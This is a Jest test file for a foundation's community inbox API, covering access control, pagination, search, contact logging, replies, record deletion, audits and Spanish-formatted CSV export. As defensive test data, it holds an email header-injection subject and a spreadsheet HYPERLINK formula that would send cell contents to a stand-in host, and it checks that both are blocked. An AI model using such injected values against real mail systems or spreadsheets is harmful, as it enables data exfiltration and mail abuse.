import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { sql } from 'kysely';
import type { InboxListResponse, InboxRecordResponse, InboxSummaryResponse } from '../schemas';
import { testApi, type TestApi } from 'shared/server/api-testing';
import { readAudit } from 'shared/server/audit';
import { readCsv } from 'shared/server/csv-testing';
import { createTestIdentity } from 'shared/server/identity-testing';
import { createTestStaffDirectory, staffToken } from 'shared/server/staff-testing';
import { communityInboxKinds } from '../schemas';
import { ACCENTED, searchKey } from 'shared/server/ledger-search';
import { communityApi } from '../../../server/index';

const identity = createTestIdentity();
const staff = createTestStaffDirectory();
staff.seat({ username: 'ana@fundacion.org' });
const member = staffToken(identity, { email: 'ana@fundacion.org' });
// A member of the team without Comunidad (PQRSF only).
staff.seat({ username: 'pedro@fundacion.org', roles: ['atencion'] });
const otherRole = staffToken(identity, { email: 'pedro@fundacion.org' });
const visitor = identity.token({ email: 'visitante@correo.co' });

const BASE = '/api/community/staff/inbox';

let api: TestApi;
beforeAll(async () => {
  api = await testApi(communityApi, { identity: identity.verifier, staff });
});
afterAll(async () => api.close());

type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';
/** A request as `token` (a member by default; null: no token at all). */
const call = (method: Method, url: string, token: string | null = member, payload?: unknown) =>
  api.app.inject({
    method,
    url,
    headers: token ? { authorization: `Bearer ${token}` } : {},
    ...(payload !== undefined ? { payload: payload as Record<string, unknown> } : {}),
  });

const volunteerRow = (over: Record<string, unknown> = {}) => ({
  volunteer_name: 'Ana',
  volunteer_lastname: 'Pérez',
  id_type: 'Cédula de ciudadanía',
  id_number: '1012345678',
  age: 27,
  address: 'Calle 10 # 5-20',
  phone_number: '3001234567',
  email: 'ana.perez@example.com',
  institution: null,
  purposes: 'Enseñar',
  activities: 'Tutorías',
  ...over,
});

async function addVolunteers(rows: Array<Record<string, unknown>>): Promise<number[]> {
  const inserted = await api.db
    .insertInto('community.volunteers')
    .values(rows.map((r) => volunteerRow(r) as ReturnType<typeof volunteerRow> & { age: number; institution: string | null }))
    .returning('id')
    .execute();
  return inserted.map((r) => r.id);
}

/** A page of a list. */
async function list(kind: string, body: Record<string, unknown> = {}): Promise<InboxListResponse> {
  const res = await call('POST', `${BASE}/${kind}/lista`, member, body);
  expect([kind, body, res.statusCode]).toEqual([kind, body, 200]);
  return res.json() as InboxListResponse;
}

/** Every page of a list, following nextCursor; the ids in the order served. */
async function walk(
  kind: string,
  filter: Record<string, unknown>,
  limit: number,
): Promise<{ ids: string[]; pages: number; total: number | null }> {
  const ids: string[] = [];
  let cursor: string | null = null;
  let pages = 0;
  let total: number | null = null;
  do {
    const body: InboxListResponse = await list(kind, { ...filter, limit, ...(cursor ? { cursor } : {}) });
    if (pages === 0) total = body.total;
    else expect(body.total).toBeNull();
    ids.push(...body.items.map((i) => i.id));
    cursor = body.nextCursor;
    pages++;
    expect(pages).toBeLessThan(500);
  } while (cursor);
  return { ids, pages, total };
}

async function exportCsv(kind: string, filter: Record<string, unknown> = {}) {
  const res = await call('POST', `${BASE}/${kind}/exportar`, member, filter);
  expect(res.statusCode).toBe(200);
  const bytes = res.rawPayload;
  const text = bytes.toString('utf8');
  return { res, bytes, text, records: readCsv(text.replace(/^\uFEFF/, '')) };
}

describe('who gets in', () => {
  const routes: Array<[Method, string]> = [['GET', BASE]];
  for (const kind of Object.keys(communityInboxKinds)) {
    routes.push(
      ['POST', `${BASE}/${kind}/lista`],
      ['POST', `${BASE}/${kind}/exportar`],
      ['GET', `${BASE}/${kind}/1`],
      ['POST', `${BASE}/${kind}/1/contactos`],
      ['POST', `${BASE}/${kind}/1/respuesta/vista-previa`],
      ['POST', `${BASE}/${kind}/1/respuesta`],
      ['PUT', `${BASE}/${kind}/1`],
      ['POST', `${BASE}/${kind}/1/eliminar`],
    );
  }

  it.each(routes)('%s %s: 401 without a token, 403 with a visitor’s, and no audit row', async (method, url) => {
    const before = (await readAudit(api.db, { limit: 1000 })).length;
    const body =
      method === 'PUT' ? { email: 'x@y.co' } : method === 'POST' ? { q: 'ana', channel: 'telefono', reason: 'duplicado' } : undefined;
    const anonymous = await call(method, url, null, body);
    expect(anonymous.statusCode).toBe(401);
    const stranger = await call(method, url, visitor, body);
    expect(stranger.statusCode).toBe(403);
    expect(stranger.json()).toMatchObject({ error: 'forbidden' });
    expect(stranger.body).not.toContain('Pérez');
    expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
  });

  it('refuses a team member without the Comunidad role on every act of the case file (403), and changes nothing', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Sin', email: 'sin.rol@correo.co' }]);
    const before = (await readAudit(api.db, { limit: 1000 })).length;
    const acts: Array<[Method, string, unknown]> = [
      ['GET', `${BASE}/voluntarios/${id}`, undefined],
      ['POST', `${BASE}/voluntarios/${id}/contactos`, { channel: 'telefono' }],
      ['POST', `${BASE}/voluntarios/${id}/respuesta`, { subject: 'Hola', body: 'Hola' }],
      ['PUT', `${BASE}/voluntarios/${id}`, { ...volunteerRow(), email: 'otro@example.com' }],
      ['POST', `${BASE}/voluntarios/${id}/eliminar`, { reason: 'duplicado' }],
      ['POST', `${BASE}/voluntarios/exportar`, {}],
    ];
    for (const [method, url, body] of acts) {
      const res = await call(method, url, otherRole, body);
      expect([method, url, res.statusCode]).toEqual([method, url, 403]);
    }
    expect((await readAudit(api.db, { limit: 1000 })).length).toBe(before);
    const row = await api.db.selectFrom('community.volunteers').select('email').where('id', '=', id!).executeTakeFirstOrThrow();
    expect(row.email).toBe('sin.rol@correo.co');
    expect((await api.mailer.list(500)).some((m) => m.to === 'sin.rol@correo.co')).toBe(false);
  });

  it('answers a member, with an unknown kind refused by the schema', async () => {
    expect((await call('GET', BASE)).statusCode).toBe(200);
    const res = await call('POST', `${BASE}/pqrsf/lista`, member, {});
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ fields: { kind: 'Ese tipo de registro no existe.' } });
  });
});

describe('lists', () => {
  it('serve every row exactly once, newest first, when many rows share a created_at (and differ by microseconds)', async () => {
    const same = '2024-05-01T15:00:00.000Z';
    const ids = await addVolunteers([
      ...Array.from({ length: 23 }, (_, i) => ({ email: `tie${i}@example.com`, created_at: same })),
      ...Array.from({ length: 9 }, (_, i) => ({ email: `older${i}@example.com`, created_at: `2024-04-0${i + 1}T10:00:00.000Z` })),
      // Within one millisecond: a cursor kept as a JS Date would lose these apart.
      { email: 'micro1@example.com', created_at: '2024-05-02T10:00:00.123401Z' },
      { email: 'micro2@example.com', created_at: '2024-05-02T10:00:00.123402Z' },
      { email: 'micro3@example.com', created_at: '2024-05-02T10:00:00.123403Z' },
    ]);
    // Pages of 2 put a page boundary between the rows of the same millisecond.
    const served = await walk('voluntarios', { q: 'example.com' }, 2);
    const mine = served.ids.filter((id) => ids.includes(Number(id)));
    expect(mine).toHaveLength(ids.length);
    expect(new Set(served.ids).size).toBe(served.ids.length);
    expect(served.total).toBe(served.ids.length);
    expect(served.pages).toBe(Math.ceil(served.ids.length / 2));

    // Newest first; equal dates by id, highest first.
    const rows = await api.db.selectFrom('community.volunteers').select(['id', 'created_at']).execute();
    const expected = rows
      .filter((r) => served.ids.includes(String(r.id)))
      .sort((a, b) => b.created_at.getTime() - a.created_at.getTime() || b.id - a.id)
      .map((r) => String(r.id));
    const microFirst = served.ids.slice(0, 3).map(Number);
    expect(microFirst).toEqual([ids[ids.length - 1], ids[ids.length - 2], ids[ids.length - 3]]);
    // Same-millisecond rows compare equal as Dates; everything else must be in exactly this order.
    expect(served.ids.slice(3)).toEqual(expected.filter((id) => !microFirst.includes(Number(id))));
  });

  it('refuses a cursor it did not write', async () => {
    const cursors = [
      'abc',
      Buffer.from('["2024-01-01", 1]').toString('base64url'),
      'a b',
      // Well shaped but impossible: a day that does not exist, an id past `integer` (the database would answer 500).
      Buffer.from('["2026-19-99T99:00:00.000000Z", 1]').toString('base64url'),
      Buffer.from(`["2026-01-01T00:00:00.000000Z", ${Number.MAX_SAFE_INTEGER}]`).toString('base64url'),
    ];
    for (const cursor of cursors) {
      const res = await call('POST', `${BASE}/voluntarios/lista`, member, { cursor });
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ fields: { cursor: expect.any(String) } });
    }
  });

  it('search by name without accents or case, by e-mail, and by document with or without dots', async () => {
    const [nunez] = await addVolunteers([
      {
        volunteer_name: 'María José',
        volunteer_lastname: 'Núñez Güiza',
        id_number: '1.098.765',
        email: 'mjnunez@correo.co',
        institution: 'Colegio Ñandú',
      },
    ]);
    const found = async (q: string) => (await list('voluntarios', { q })).items.map((i) => Number(i.id));
    for (const q of ['nunez', 'NÚÑEZ maría', 'guiza', 'mjnunez@correo', '1098765', '1.098.765', '098.76', 'ñandu'])
      expect([q, await found(q)]).toEqual([q, [nunez]]);
    expect(await found('nunez pérez')).toEqual([]);
    // LIKE's wildcards typed in the box match only themselves.
    expect(await found('%')).toEqual([]);
    expect(await found('_')).toEqual([]);
    expect((await list('voluntarios', { q: 'nunez' })).items[0]).toMatchObject({
      name: 'María José Núñez Güiza',
      email: 'mjnunez@correo.co',
      extra: 'Cédula de ciudadanía 1.098.765',
      contact: { contacted: false, lastAt: null, count: 0 },
    });
  });

  it('search allies by company and workshop inquiries by either name form, and filter inquiries by workshop', async () => {
    await api.db
      .insertInto('community.allies')
      .values({
        corporation_name: 'Tejidos Andinos S.A.S.',
        corp_phone_number: '6015551234',
        representative_name: 'Carlos',
        representative_lastname: 'Gómez',
        id_type: 'Cédula de extranjería',
        id_number: 'E123456',
        email: 'carlos@tejidos.example.com',
        rep_phone_number: '3109876543',
        reviews: null,
      })
      .execute();
    const allies = await list('aliados', { q: 'tejidos andinos' });
    expect(allies.items.map((i) => [i.name, i.extra])).toEqual([['Carlos Gómez', 'Tejidos Andinos S.A.S.']]);

    await api.db
      .insertInto('community.workshop_inquiries')
      .values([
        {
          workshop: 'arte-de-amarte',
          full_name: 'Marta Ruiz',
          phone_number: '3201234567',
          email: 'marta@example.com',
          comments_query: '¿Cuándo?',
        },
        {
          workshop: 'vale-ser',
          first_name: 'Sofía',
          last_name: 'Ruiz',
          phone_number: '3011234567',
          email: 'sofia@example.com',
          comments_query: 'Hola',
        },
      ])
      .execute();
    const both = await list('talleres', { q: 'ruiz' });
    expect(both.items.map((i) => [i.name, i.extra])).toEqual([
      ['Sofía Ruiz', 'Vale Ser'],
      ['Marta Ruiz', 'Arte de Amarte'],
    ]);
    const vale = await list('talleres', { q: 'ruiz', taller: 'vale-ser' });
    expect(vale.items.map((i) => i.name)).toEqual(['Sofía Ruiz']);
    expect(vale.total).toBe(1);
    const misplaced = await call('POST', `${BASE}/voluntarios/lista`, member, { taller: 'vale-ser' });
    expect(misplaced.statusCode).toBe(400);
    expect(misplaced.json()).toMatchObject({ fields: { taller: 'El filtro por taller solo aplica a las consultas de talleres.' } });
  });

  it('keep the search column and the typed search in step: every accented letter the column drops, the search drops', async () => {
    const odd = `${ACCENTED}@x.co`;
    await api.db.insertInto('community.newsletter_subscriptions').values({ email: odd }).execute();
    const row = await api.db
      .selectFrom('community.newsletter_subscriptions')
      .select('inbox_search')
      .where('email', '=', odd)
      .executeTakeFirstOrThrow();
    expect(row.inbox_search).toBe(searchKey(odd));
    expect(searchKey(odd)).toMatch(/^[a-z]+@x\.co$/);
  });

  it('count every kind, and the pending ones', async () => {
    const summary = (await call('GET', BASE)).json() as InboxSummaryResponse;
    expect(summary.kinds.map((k) => k.kind)).toEqual(Object.keys(communityInboxKinds));
    const volunteers = await api.db
      .selectFrom('community.volunteers')
      .select((eb) => eb.fn.countAll<number>().as('n'))
      .executeTakeFirstOrThrow();
    expect(summary.kinds[0]).toMatchObject({ kind: 'voluntarios', label: 'Voluntarios', total: Number(volunteers.n) });
    expect(summary.kinds[0]!.pending).toBe(summary.kinds[0]!.total);
  });
});

describe('a record and its case file', () => {
  it('shows every field as filed', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Lucía', institution: 'SENA', created_at: '2026-03-02T19:32:10Z' }]);
    const res = await call('GET', `${BASE}/voluntarios/${id}`);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({
      kind: 'voluntarios',
      id: String(id),
      createdAt: '2026-03-02T19:32:10.000Z',
      record: { ...volunteerRow({ volunteer_name: 'Lucía', institution: 'SENA' }) },
      contact: { contacted: false, lastAt: null, count: 0 },
      history: [],
      actions: {
        contact: { allowed: true, reason: null },
        reply: { allowed: true, reason: null },
        correct: { allowed: true, reason: null },
        remove: { allowed: true, reason: null },
      },
    });
    expect((await call('GET', `${BASE}/voluntarios/999999`)).statusCode).toBe(404);
    expect((await call('GET', `${BASE}/aliados/0`)).statusCode).toBe(400);
  });

  it('keeps every contact (channel, note, who, when), newest first, derives "Contactado", and audits each without the note', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Tomás', email: 'tomas@example.com' }]);
    const first = await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, {
      channel: 'telefono',
      note: 'Llamé a Tomás; no contestó.',
    });
    expect(first.statusCode).toBe(200);
    expect((first.json() as InboxRecordResponse).contact).toMatchObject({ contacted: true, count: 1 });
    const second = await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, {
      channel: 'whatsapp',
      note: 'Le escribí; vendrá el sábado.',
    });
    const record = second.json() as InboxRecordResponse;
    expect(record.contact).toMatchObject({ contacted: true, count: 2 });
    expect(record.history.map((h) => [h.event, h.channel, h.note, h.by])).toEqual([
      ['contacto', 'whatsapp', 'Le escribí; vendrá el sábado.', 'ana@fundacion.org'],
      ['contacto', 'telefono', 'Llamé a Tomás; no contestó.', 'ana@fundacion.org'],
    ]);
    // Read again: both still there, never overwritten.
    const again = (await call('GET', `${BASE}/voluntarios/${id}`)).json() as InboxRecordResponse;
    expect(again.history).toHaveLength(2);

    const contacted = await list('voluntarios', { estado: 'contactados', q: 'tomas' });
    expect(contacted.items.map((i) => Number(i.id))).toEqual([id]);
    expect(contacted.items[0]!.contact).toMatchObject({ contacted: true, count: 2 });
    expect((await list('voluntarios', { estado: 'pendientes', q: 'tomas' })).items).toEqual([]);

    const trail = await readAudit(api.db, {
      limit: 10,
      entity: 'volunteers',
      entityId: String(id),
      actionPrefix: 'community.inbox.contact',
    });
    expect(trail.map((a) => [a.action, a.actorEmail, a.detail])).toEqual([
      ['community.inbox.contact', 'ana@fundacion.org', { kind: 'voluntarios', canal: 'whatsapp', conNota: true }],
      ['community.inbox.contact', 'ana@fundacion.org', { kind: 'voluntarios', canal: 'telefono', conNota: true }],
    ]);
    expect(JSON.stringify(trail)).not.toContain('Tomás');
  });

  it('refuses a contact without a channel, for a record that does not exist, or to a subscriber, and records nothing', async () => {
    const before = (await readAudit(api.db, { limit: 1000 })).length;
    const noChannel = await call('POST', `${BASE}/voluntarios/1/contactos`, member, { note: 'x' });
    expect(noChannel.statusCode).toBe(400);
    expect(noChannel.json()).toMatchObject({ fields: { channel: expect.stringMatching(/^Elige por dónde/) } });
    expect((await call('POST', `${BASE}/software/424242/contactos`, member, { channel: 'correo' })).statusCode).toBe(404);
    const long = await call('POST', `${BASE}/voluntarios/1/contactos`, member, { channel: 'correo', note: 'x'.repeat(2001) });
    expect(long.json()).toMatchObject({ fields: { note: 'Escribe como máximo 2000 caracteres en la nota.' } });
    const [sub] = await api.db
      .insertInto('community.newsletter_subscriptions')
      .values({ email: 'lector@example.com' })
      .returning('id')
      .execute();
    const subscriber = await call('POST', `${BASE}/boletin/${sub!.id}/contactos`, member, { channel: 'correo' });
    expect(subscriber.statusCode).toBe(409);
    const read = (await call('GET', `${BASE}/boletin/${sub!.id}`)).json() as InboxRecordResponse;
    expect(read.contact).toBeNull();
    expect(read.actions.contact.allowed).toBe(false);
    // The subscriber's record was read (audited); no contact was recorded.
    const all = await readAudit(api.db, { limit: 1000 });
    const added = all.slice(0, all.length - before);
    expect(added.map((a) => a.action)).toEqual(['community.inbox.read']);
  });

  it('previews a reply, e-mails it in the foundation template, keeps it in the history as outgoing, and audits it without its text', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Julia', email: 'julia.respuesta@example.com' }]);
    const reply = { subject: 'Tu voluntariado', body: 'Hola de nuevo.\nTe esperamos el sábado a las 9.' };
    const preview = await call('POST', `${BASE}/voluntarios/${id}/respuesta/vista-previa`, member, reply);
    expect(preview.statusCode).toBe(200);
    const shown = preview.json() as { subject: string; text: string };
    expect(shown.subject).toMatch(/^Tu voluntariado - /);
    expect(shown.text).toContain('Te esperamos el sábado a las 9.');
    expect(shown.text).toContain(`(voluntariado, n.º ${id})`);
    expect(shown.text).toMatch(/Con cariño,/);
    expect((await api.mailer.list(500)).some((m) => m.to === 'julia.respuesta@example.com')).toBe(false);

    const sent = await call('POST', `${BASE}/voluntarios/${id}/respuesta`, member, reply);
    expect(sent.statusCode).toBe(200);
    const record = sent.json() as InboxRecordResponse;
    expect(record.history[0]).toMatchObject({ event: 'respuesta', channel: 'correo', subject: reply.subject, body: reply.body.trim() });
    expect(record.contact).toMatchObject({ contacted: true, count: 1 });
    const mails = (await api.mailer.list(500)).filter((m) => m.to === 'julia.respuesta@example.com');
    expect(mails).toHaveLength(1);
    expect(mails[0]!.subject).toBe(shown.subject);
    expect(mails[0]!.text).toBe(shown.text);
    expect(mails[0]!.html).toContain('Te esperamos el sábado a las 9.');
    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
    expect(audit).toMatchObject({ action: 'community.inbox.reply', actorEmail: 'ana@fundacion.org', detail: { kind: 'voluntarios' } });
    expect(JSON.stringify(audit)).not.toMatch(/sábado|Tu voluntariado|julia/);

    // A subject on two lines (a header injection) is refused; nothing more is sent.
    const injected = await call('POST', `${BASE}/voluntarios/${id}/respuesta`, member, { subject: 'Hola\r\nBcc: x@mal.co', body: 'x' });
    expect(injected.statusCode).toBe(400);
    expect(injected.json()).toMatchObject({ fields: { subject: 'El asunto va en una sola línea.' } });
    expect((await api.mailer.list(500)).filter((m) => m.to === 'julia.respuesta@example.com')).toHaveLength(1);
  });

  it('corrects fields with the form’s own rules, says which fields changed (never the values), and audits it', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Pablo', email: 'pablo@example.com', phone_number: '3001112233' }]);
    const current = ((await call('GET', `${BASE}/voluntarios/${id}`)).json() as InboxRecordResponse).record;
    const bad = await call('PUT', `${BASE}/voluntarios/${id}`, member, { ...current, email: 'no-es-correo', age: 7 });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({
      fields: { email: 'Ingresa un correo electrónico válido', age: 'La edad debe ser un número entre 14 y 99' },
    });
    const badDocument = await call('PUT', `${BASE}/voluntarios/${id}`, member, {
      ...current,
      id_type: 'Cédula de ciudadanía',
      id_number: 'ABC',
    });
    expect(badDocument.statusCode).toBe(400);
    expect(badDocument.json()).toMatchObject({ fields: { id_number: expect.any(String) } });
    const unchanged = await call('PUT', `${BASE}/voluntarios/${id}`, member, current);
    expect(unchanged.statusCode).toBe(400);
    expect(unchanged.json()).toMatchObject({ message: 'No cambiaste ningún dato.' });

    const ok = await call('PUT', `${BASE}/voluntarios/${id}`, member, {
      ...current,
      email: 'pablo.nuevo@example.com',
      phone_number: '3109998877',
    });
    expect(ok.statusCode).toBe(200);
    const record = ok.json() as InboxRecordResponse;
    expect(record.record).toMatchObject({ email: 'pablo.nuevo@example.com', phone_number: '3109998877' });
    expect(record.history[0]).toMatchObject({ event: 'correccion', fields: ['Teléfono', 'Correo electrónico'], note: null, body: null });
    expect(JSON.stringify(record.history)).not.toContain('3001112233');
    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
    expect(audit).toMatchObject({ action: 'community.inbox.correct', detail: { kind: 'voluntarios', campos: ['phone_number', 'email'] } });
    expect(JSON.stringify(audit)).not.toMatch(/pablo|3109998877|3001112233/);
    // The search finds the new address: the generated column followed.
    expect((await list('voluntarios', { q: 'pablo.nuevo' })).items.map((i) => Number(i.id))).toEqual([id]);
  });

  it('removes a record with a reason: its personal data and history are deleted, a tombstone and an audit row remain', async () => {
    const [id] = await addVolunteers([{ volunteer_name: 'Rocío', email: 'rocio.borrar@example.com' }]);
    await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, { channel: 'telefono', note: 'Rocío pidió que la borráramos.' });
    const noReason = await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, {});
    expect(noReason.statusCode).toBe(400);
    expect(noReason.json()).toMatchObject({ fields: { reason: 'Elige el motivo de la eliminación.' } });

    const removed = await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, { reason: 'solicitud' });
    expect(removed.statusCode).toBe(200);
    expect(removed.json()).toMatchObject({ kind: 'voluntarios', id: String(id), by: 'ana@fundacion.org', reason: 'solicitud' });
    expect(await api.db.selectFrom('community.volunteers').select('id').where('id', '=', id!).execute()).toEqual([]);
    const left = await api.db
      .selectFrom('community.record_history')
      .selectAll()
      .where('kind', '=', 'volunteers')
      .where('record_id', '=', id!)
      .execute();
    expect(left.map((h) => [h.event, h.reason, h.note, h.subject, h.body, h.actor_email])).toEqual([
      ['eliminacion', 'solicitud', null, null, null, 'ana@fundacion.org'],
    ]);
    const gone = await call('GET', `${BASE}/voluntarios/${id}`);
    expect(gone.statusCode).toBe(410);
    expect(gone.json()).toMatchObject({
      message: expect.stringMatching(/^Este registro se eliminó el .*; sus datos personales se borraron\.$/),
    });
    expect(JSON.stringify(await list('voluntarios', { q: 'rocio' }))).not.toContain('rocio.borrar');
    const [audit] = await readAudit(api.db, { limit: 1, entity: 'volunteers', entityId: String(id) });
    expect(audit).toMatchObject({ action: 'community.inbox.remove', detail: { kind: 'voluntarios', motivo: 'solicitud' } });
    expect(JSON.stringify(audit)).not.toMatch(/roc[ií]o/i);
    // Nothing left to remove, correct or contact.
    expect((await call('POST', `${BASE}/voluntarios/${id}/eliminar`, member, { reason: 'duplicado' })).statusCode).toBe(404);
    expect((await call('POST', `${BASE}/voluntarios/${id}/contactos`, member, { channel: 'correo' })).statusCode).toBe(404);
  });
});

describe('CSV export', () => {
  it('opens in Excel in Spanish: BOM, ";" and CRLF, Spanish headers, Bogotá dates, accents intact, formulas neutralised', async () => {
    const [nino, formula] = await addVolunteers([
      {
        volunteer_name: 'Begoña',
        volunteer_lastname: 'Ibáñez Güell',
        email: 'begona@example.com',
        institution: 'Fundación "Niñez"; Sede 2',
        purposes: 'Primera línea\nsegunda línea',
        created_at: '2026-03-02T04:30:00Z',
      },
      { volunteer_name: '=HYPERLINK("http://mal.example/?x="&A1,"Ver")', volunteer_lastname: '@SUMA(1;2)', email: 'formula@example.com' },
    ]);
    const { res, bytes, records } = await exportCsv('voluntarios');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="comunidad-voluntarios-\d{4}-\d{2}-\d{2}\.csv"/);
    expect(res.headers['cache-control']).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toMatch(/^\uFEFF"Número";"Fecha de registro";"Nombres";"Apellidos";/);

    const [header, ...rows] = records;
    expect(header).toEqual([
      'Número',
      'Fecha de registro',
      'Nombres',
      'Apellidos',
      'Tipo de documento',
      'Número de documento',
      'Edad',
      'Dirección',
      'Teléfono',
      'Correo electrónico',
      'Institución',
      'Por qué quiere ser voluntario',
      'Actividades que le gustaría realizar',
      'Contactado',
      'Último contacto',
      'Contactos y respuestas',
    ]);
    const byId = new Map(rows.map((r) => [Number(r[0]), r]));
    // 04:30 UTC on 2 March is 23:30 on 1 March in Bogotá.
    expect(byId.get(nino!)).toEqual([
      String(nino),
      '01/03/2026 23:30',
      'Begoña',
      'Ibáñez Güell',
      'Cédula de ciudadanía',
      '1012345678',
      '27',
      'Calle 10 # 5-20',
      '3001234567',
      'begona@example.com',
      'Fundación "Niñez"; Sede 2',
      'Primera línea\nsegunda línea',
      'Tutorías',
      'No',
      '',
      '0',
    ]);
    expect(byId.get(formula!)?.slice(2, 4)).toEqual([`'=HYPERLINK("http://mal.example/?x="&A1,"Ver")`, `'@SUMA(1;2)`]);
    // Every field quoted, every record on CRLF.
    expect(bytes.toString('utf8').split('\r\n')[1]).toMatch(/^"\d+";"\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}";"/);
  });

  it('shows the contact state and the workshop by name, with no column that is always empty in a workshop’s file', async () => {
    const [vale, arte] = await api.db
      .insertInto('community.workshop_inquiries')
      .values([
        {
          workshop: 'vale-ser',
          first_name: 'Óscar',
          last_name: 'Muñoz',
          phone_number: '3011112222',
          email: 'oscar@example.com',
          occupation: 'Docente',
          empowerment_course: 'No',
          referral_source: 'Instagram',
          comments_query: 'Hola',
        },
        {
          workshop: 'arte-de-amarte',
          full_name: 'Marta Lucía Ríos',
          phone_number: '3201234567',
          email: 'marta.rios@example.com',
          guest_type: 'Soy docente y me interesa el taller para mis estudiantes',
          comments_query: '¿Cuándo?',
        },
      ])
      .returning('id')
      .execute();
    await call('POST', `${BASE}/talleres/${vale!.id}/contactos`, member, { channel: 'correo', note: 'Le escribí' });
    const { records } = await exportCsv('talleres', { estado: 'contactados', taller: 'vale-ser' });
    const [header, ...lines] = records;
    expect(lines.map((l) => Number(l[0]))).toEqual([vale!.id]);
    expect(header).toEqual([
      'Número',
      'Fecha de registro',
      'Taller',
      'Nombre',
      'Teléfono',
      'Correo electrónico',
      'Ocupación',
      '¿Hizo un curso de empoderamiento?',
      'Cómo se enteró',
      'Consulta',
      'Contactado',
      'Último contacto',
      'Contactos y respuestas',
    ]);
    const cell = (name: string) => lines[0]![header!.indexOf(name)];
    expect(cell('Taller')).toBe('Vale Ser');
    expect(cell('Nombre')).toBe('Óscar Muñoz');
    expect(cell('Contactado')).toBe('Sí');
    expect(cell('Último contacto')).toMatch(/^\d{2}\/\d{2}\/\d{4} \d{2}:\d{2}$/);
    expect(cell('Contactos y respuestas')).toBe('1');

    const arteFile = await exportCsv('talleres', { taller: 'arte-de-amarte', q: 'marta rios' });
    const [arteHeader, ...arteLines] = arteFile.records;
    expect(arteLines.map((l) => Number(l[0]))).toEqual([arte!.id]);
    expect(arteHeader).toEqual([
      'Número',
      'Fecha de registro',
      'Taller',
      'Nombre',
      'Teléfono',
      'Correo electrónico',
      'Interés en el taller',
      'Consulta',
      'Contactado',
      'Último contacto',
      'Contactos y respuestas',
    ]);
    // No column is empty on every line.
    for (const file of [records, arteFile.records]) {
      const [h, ...rows] = file;
      const empty = h!.filter((_, i) => rows.every((r) => r[i] === '') && !['Último contacto'].includes(h![i]!));
      expect(empty).toEqual([]);
    }
  });

  it('follows the search: only the rows the list shows, and the audit says a search was applied but not its words', async () => {
    await addVolunteers([
      { volunteer_name: 'Candelaria', email: 'candelaria.busca@example.com' },
      { volunteer_name: 'Otro', email: 'otro.busca@example.com' },
    ]);
    const shown = await list('voluntarios', { q: 'candelaria' });
    const { records } = await exportCsv('voluntarios', { q: 'candelaria' });
    const [header, ...rows] = records;
    expect(rows.map((r) => r[0])).toEqual(shown.items.map((i) => i.id));
    expect(rows.map((r) => r[header!.indexOf('Correo electrónico')])).toEqual(['candelaria.busca@example.com']);
    const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
    expect(audit!.detail).toMatchObject({ kind: 'voluntarios', filtro: { estado: 'todos', busqueda: true }, filas: 1 });
    expect(JSON.stringify(audit)).not.toMatch(/candelaria/i);
  });

  it('writes an audit row with kind, filter and the file’s row count, and none of the rows’ data', async () => {
    const { records } = await exportCsv('voluntarios', { estado: 'pendientes' });
    const pending = (await list('voluntarios', { estado: 'pendientes' })).total;
    expect(records.length - 1).toBe(pending);
    const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
    expect(audit).toMatchObject({
      actorEmail: 'ana@fundacion.org',
      action: 'community.export',
      entity: 'volunteers',
      entityId: null,
      detail: { kind: 'voluntarios', filtro: { estado: 'pendientes' }, filas: pending },
    });
    expect(JSON.stringify(audit).toLowerCase()).not.toMatch(/bego|example\.com/);
  });

  it('pages through a large table: 2,500 rows, many on the same instant, each exported once and counted in the audit', async () => {
    const at = '2023-01-01T12:00:00.000Z';
    const values = Array.from(
      { length: 2500 },
      (_, i) => `('bulk${i}@masivo.co', ${i % 3 === 0 ? `'${at}'` : `'2023-01-01T12:00:00Z'::timestamptz - interval '${i} seconds'`})`,
    );
    await sql.raw(`insert into community.newsletter_subscriptions (email, created_at) values ${values.join(',')}`).execute(api.db);
    const { records } = await exportCsv('boletin');
    const [header, ...all] = records;
    const rows = all.filter((r) => r[2]!.endsWith('@masivo.co'));
    expect(header).toEqual(['Número', 'Fecha de registro', 'Correo electrónico', 'Estado en el boletín']);
    expect(rows).toHaveLength(2500);
    expect(new Set(rows.map((r) => r[2])).size).toBe(2500);
    const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
    expect(audit!.detail).toMatchObject({ kind: 'boletin', filas: all.length });
  });

  it('exports only a header when nothing matches, and audits the zero', async () => {
    const { records } = await exportCsv('aliados', { estado: 'contactados' });
    expect(records).toHaveLength(1);
    const [audit] = await readAudit(api.db, { limit: 1, actionPrefix: 'community.export' });
    expect(audit!.detail).toMatchObject({ kind: 'aliados', filas: 0 });
  });
});
